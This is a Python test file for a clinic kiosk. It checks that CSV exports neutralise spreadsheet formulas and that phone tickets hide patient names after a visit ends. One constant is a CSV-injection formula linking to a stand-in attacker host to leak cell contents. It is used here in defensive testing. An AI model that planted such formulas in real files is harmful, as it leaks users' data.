"""Issue 21, finding 6, on SQLite and PostgreSQL: a staff-typed formula reaches the visit CSV as
text, and a phone ticket left open names nobody once its visit has ended (before: the first
name until midnight)."""

import csv
import io
from datetime import date

from kiosk_core import db
from kiosk_core.models import Visit
from kiosk_core.reports.csv_export import visits_csv
from tests.factories import make_therapist
from tests.integration.test_ticket_links import act, linked, seen

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_typed_formula_reaches_the_csv_as_text(engine, clinic):
    ticket, _ = linked(engine, clinic, first_name="Rosa")
    with db.write_session(engine) as session:
        session.get(Visit, ticket.visit_id).reroute_reason = FORMULA
    with db.read_session(engine) as session:
        text = visits_csv(session=session, start=date(2026, 11, 23), end=date(2026, 11, 23))
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["reroute_reason"] == "'" + FORMULA


def test_the_phone_ticket_names_nobody_once_the_visit_ended(engine, clinic):
    ticket, token = linked(engine, clinic, first_name="Rosa")
    assert seen(engine, clinic, token).first_name == "Rosa"
    therapist = make_therapist(engine)
    for action in ("call", "start"):
        act(engine, ticket.visit_id, action, therapist)
    assert seen(engine, clinic, token).first_name == "Rosa"  # still hers while she is here
    act(engine, ticket.visit_id, "finish", therapist)
    shown = seen(engine, clinic, token)
    assert (shown.state, shown.first_name, shown.ticket_code) == ("finished", "", ticket.ticket_code)
